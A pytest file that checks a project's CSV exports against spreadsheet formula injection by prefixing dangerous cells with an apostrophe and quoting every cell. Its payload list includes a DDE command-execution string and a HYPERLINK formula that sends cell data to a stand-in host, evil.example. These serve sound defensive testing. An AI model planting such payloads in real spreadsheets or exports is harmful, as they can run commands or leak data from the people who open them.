"""No cell of a CSV the project writes is read as a formula by a spreadsheet (OWASP's advice:
cells starting with = + - @ tab or carriage return get a leading apostrophe; every cell quoted)."""
from __future__ import annotations

import csv
import io

import pytest

from bot.csv_cells import FORMULA_STARTS, neutralise
from tests.console_server import sign_in
from tests.trackers import customer, language

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("@x", "'@x"), ("-5", "'-5"), ("hello", "hello"), ("", ""), (-5, -5), (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("kind", ["cases", "transcripts"])
def test_console_csv_exports_carry_no_formula(console, rasa_trackers, kind):
    for number, payload in enumerate(PAYLOADS):
        rasa_trackers.add(f"-{number}+1", [customer(payload, "complain", 200 + number), language("en", 201 + number)])
    lead = sign_in(console, "lena")
    text = lead.get(f"{console}/console/export?kind={kind}&format=csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in cells or kind == "cases"
    assert "'-0+1" in cells, "a customer-chosen conversation id is neutralised too"
    assert text.startswith('"'), "every cell is quoted"
